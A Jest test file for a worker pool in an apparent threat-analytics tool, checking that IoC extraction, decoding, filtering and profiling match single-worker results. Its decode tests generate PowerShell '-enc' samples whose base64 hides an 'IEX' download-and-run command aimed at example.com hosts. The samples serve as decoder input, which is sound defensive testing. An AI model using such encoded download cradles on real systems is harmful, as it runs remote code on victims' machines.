// The worker pool gives what one worker gives: the same rows, order, SourceIndex/Row values and
// notes, on the corpora of the IoC and decode tests and on generated data reaching limits; a
// cancel reaches every pool worker, and a pool worker that dies fails its job and is replaced.
import { readFileSync } from 'fs';
import { join } from 'path';
import { Table, tableFromArrays, vectorFromArray, Utf8 } from 'apache-arrow';
import { decodeIPC, encodeIPC } from '../../analytics/arrow';
import { ALL_TYPES } from '../../analytics/ioc';
import { JobBudgetError, JobCancelledError } from '../../analytics/job';
import type { JobArgs, JobName } from '../../protocol';
import { WorkerService } from '../service';
import { nodeWorkerPool, spawnNodeSubWorker } from '../pool/node';
import { PoolJobContext, WorkerPool } from '../pool/pool';
import type { ISubWorker } from '../pool/transport';

const ALL_WORK = { ioc: 0, decode: 0, filter: 0, profile: 0 };
const fixtures = join(__dirname, '../../analytics');
const iocData = JSON.parse(
  readFileSync(join(fixtures, 'ioc/__tests__/fixtures/data.json'), 'utf8')
) as { columns: { file: string; column: string; texts: string[] }[] };
const acceptance = JSON.parse(
  readFileSync(join(fixtures, 'ioc/__tests__/fixtures/acceptance.json'), 'utf8')
) as { inputs: Record<string, string[]> };
const unpack = JSON.parse(
  readFileSync(join(fixtures, 'decode/__tests__/fixtures/msticpy_unpack_df.json'), 'utf8')
) as { cases: { inputs: string[] }[] };

/** Text columns of equal length (shorter ones padded with nulls). */
function textTable(columns: Record<string, (string | null)[]>): Table {
  const n = Math.max(...Object.values(columns).map(c => c.length));
  const vectors = Object.fromEntries(
    Object.entries(columns).map(([name, texts]) => [
      name,
      vectorFromArray(
        Array.from({ length: n }, (_, i) => texts[i] ?? null),
        new Utf8()
      )
    ])
  );
  return new Table(vectors);
}

/** Every value of every column, with the schema's names, types and notes. */
function contents(table: Table): unknown {
  return {
    fields: table.schema.fields.map(f => `${f.name}: ${f.type}`),
    notes: table.schema.metadata.get('notes') ?? null,
    rows: table.numRows,
    columns: table.schema.fields.map((f, i) =>
      JSON.stringify([...table.getChildAt(i)!].map(v => (v instanceof Uint8Array ? [...v] : v)))
    )
  };
}

/** The IoC corpus: every text of the IoC tests, repeated with row numbers so slices differ. */
function iocCorpus(times: number): Record<string, string[]> {
  const texts = [
    ...iocData.columns.flatMap(c => c.texts),
    ...Object.values(acceptance.inputs).flat()
  ];
  const other = iocData.columns[0].texts;
  const a: string[] = [];
  const b: string[] = [];
  for (let k = 0; k < times; k++) {
    texts.forEach((t, i) => {
      a.push(`${k} ${t}`);
      b.push(other[(i + k) % other.length]);
    });
  }
  return { text: a, other: b };
}

const pools: WorkerPool[] = [];
function pooled(size: number, thresholds = ALL_WORK): WorkerService {
  const pool = new WorkerPool(spawnNodeSubWorker, size, thresholds);
  pools.push(pool);
  return new WorkerService({ pool });
}
afterAll(() => pools.forEach(p => p.dispose()));

const single = new WorkerService();
const pair = pooled(2);
const three = pooled(3);
let jobId = 1;

async function both<K extends JobName>(table: Table, job: K, args: Omit<JobArgs<K>, 'tableId'>) {
  const bytes = encodeIPC(table);
  const out = [];
  for (const service of [single, pair, three]) {
    const { id } = service.load(bytes.slice());
    const result = await service.run(jobId++, job, { ...args, tableId: id } as JobArgs<K>);
    out.push(
      typeof result === 'object' && 'id' in (result as object)
        ? service.export((result as { id: number }).id)
        : result
    );
  }
  return out;
}

async function sameTables<K extends JobName>(
  table: Table,
  job: K,
  args: Omit<JobArgs<K>, 'tableId'>
) {
  const [one, two, three_] = (await both(table, job, args)).map(b =>
    contents(decodeIPC(b as Uint8Array))
  );
  expect(two).toEqual(one);
  expect(three_).toEqual(one);
  return one as { rows: number; notes: string | null };
}

describe('worker pool: IoC extraction equals one worker', () => {
  const table = textTable(iocCorpus(4));

  it('default mode, all types, two columns', async () => {
    const r = await sameTables(table, 'extractIocs', {
      columns: ['text', 'other'],
      types: [...ALL_TYPES]
    });
    expect(r.rows).toBeGreaterThan(1000);
  });

  it('msticpy parity mode', async () => {
    await sameTables(table, 'extractIocs', { columns: ['text'], parity: 'msticpy' });
  });

  it('notes of cells over the length cap, column by column', async () => {
    const r = await sameTables(table, 'extractIocs', {
      columns: ['other', 'text'],
      maxCellLength: 60
    });
    expect(JSON.parse(r.notes!).length).toBeGreaterThan(100);
  });

  it('cells with long URLs (per-cell character bound, Input cut at 4,096 characters)', async () => {
    const long = textTable({
      text: Array.from(
        { length: 1800 },
        (_, i) => `get http://h${i}.example.com/${'a'.repeat(5000)}`
      )
    });
    const r = await sameTables(long, 'extractIocs', { columns: ['text'] });
    expect(r.rows).toBeGreaterThanOrEqual(1800);
  });

  it('no matches at all', async () => {
    const empty = textTable({ text: Array.from({ length: 500 }, (_, i) => `plain ${i}`) });
    const r = await sameTables(empty, 'extractIocs', { columns: ['text'] });
    expect(r.rows).toBe(0);
  });
});

describe('worker pool: decoding equals one worker', () => {
  const inputs = unpack.cases.flatMap(c => c.inputs);
  const payload = (i: number) =>
    `powershell -enc ${Buffer.from(`IEX http://h${i}.example.com/a.ps1`, 'utf16le').toString('base64')}`;
  const texts = Array.from({ length: 600 }, (_, i) =>
    i % 3 === 0 ? payload(i) : inputs[i % inputs.length]
  );
  const table = textTable({ a: texts, b: texts.slice().reverse() });

  it('default mode, one column and two', async () => {
    const one = await sameTables(table, 'decode', { columns: ['a'] });
    expect(one.rows).toBeGreaterThan(200);
    await sameTables(table, 'decode', { columns: ['a', 'b'] });
  });

  it('parity mode (on one worker: its rows depend on earlier rows)', async () => {
    await sameTables(table, 'decode', { columns: ['a'], parity: 'msticpy' });
  });

  it('per-row limits (depth, cell length, candidates) and whole-job limits (items, bytes)', async () => {
    for (const limits of [
      { maxDepth: 1, maxCellChars: 80, maxCandidatesPerLayer: 2 },
      { maxItems: 150 },
      { maxTotalBytes: 20_000 }
    ]) {
      const r = await sameTables(table, 'decode', { columns: ['a', 'b'], limits });
      expect(r.rows).toBeGreaterThan(0);
    }
  });
});

describe('worker pool: filter and profile equal one worker', () => {
  const corpus = iocCorpus(2);
  const table = textTable(corpus).assign(
    tableFromArrays({ n: Float64Array.from(corpus.text, (_, i) => (i * 7919) % 1000) })
  );

  it('text filter, column filters, and the sort after them', async () => {
    for (const query of [
      { filterText: 'EXE' },
      {
        filterText: '19',
        columnFilters: [{ column: 'n', kind: 'range' as const, min: 100, max: 600 }]
      },
      { columnFilters: [{ column: 'text', kind: 'regex' as const, pattern: '\\d+\\.\\d+' }] },
      { filterText: 'http', sortColumn: 'n', ascending: false }
    ]) {
      const [one, two, three_] = await both(table, 'queryRows', query);
      expect([...(two as Int32Array)]).toEqual([...(one as Int32Array)]);
      expect([...(three_ as Int32Array)]).toEqual([...(one as Int32Array)]);
    }
  });

  it('a column filter naming a missing column fails as on one worker', async () => {
    const query = { columnFilters: [{ column: 'nope', kind: 'contains' as const, text: 'x' }] };
    await expect(both(table, 'queryRows', query)).rejects.toThrow(
      /column "nope" is not in the table/
    );
  });

  it('profile', async () => {
    const [one, two, three_] = await both(table, 'profile', {});
    expect(two).toEqual(one);
    expect(three_).toEqual(one);
  });
});

describe('worker pool: cancel, budget, a pool worker that dies', () => {
  const big = textTable(iocCorpus(40));

  it('a cancel reaches every pool worker; the pool runs the next job', async () => {
    const service = pooled(2);
    const { id } = service.load(encodeIPC(big));
    const run = service.run(900, 'extractIocs', { tableId: id, columns: ['text', 'other'] });
    setTimeout(() => service.cancel(900), 300);
    await expect(run).rejects.toBeInstanceOf(JobCancelledError);
    const pool = pools.at(-1)!;
    // Stopped by the shared flag, or terminated after the grace: either way none stays busy.
    for (let waited = 0; pool.busy > 0 && waited < 5000; waited += 50) {
      await new Promise(r => setTimeout(r, 50));
    }
    expect(pool.busy).toBe(0);
    const info = await service.run(901, 'extractIocs', { tableId: id, columns: ['other'] });
    expect(info.numRows).toBeGreaterThan(0);
  });

  it('the time budget stops every slice with the job budget error', async () => {
    const pool = pools[0];
    const ctx = new PoolJobContext({ budgetMs: 200 }, pool);
    const slice = {
      args: { start: 0, columns: ['text'] },
      input: () => encodeIPC(big),
      label: 'all'
    };
    await expect(pool.run('ioc', [slice, slice], ctx)).rejects.toThrow(
      new JobBudgetError(200).message
    );
  });

  it('a pool worker that dies fails the job with a clear message; the next job runs', async () => {
    const handles: ISubWorker[] = [];
    const pool = new WorkerPool(
      events => {
        const h = spawnNodeSubWorker(events);
        handles.push(h);
        return h;
      },
      2,
      ALL_WORK
    );
    pools.push(pool);
    const service = new WorkerService({ pool });
    const { id } = service.load(encodeIPC(big));
    const run = service.run(950, 'extractIocs', { tableId: id, columns: ['text'] });
    setTimeout(() => handles[1].terminate(), 300);
    await expect(run).rejects.toThrow(
      /pool worker .* stopped \(exit code \d+\) while running ioc on rows \d+-\d+/
    );
    const info = await service.run(951, 'extractIocs', { tableId: id, columns: ['other'] });
    expect(info.numRows).toBeGreaterThan(0);
    expect(handles.length).toBeGreaterThanOrEqual(3); // the dead one replaced
  });
});

it('nodeWorkerPool defaults to one worker per core but one, at least 1', () => {
  const pool = nodeWorkerPool();
  expect(pool.size).toBeGreaterThanOrEqual(1);
  pool.dispose();
});
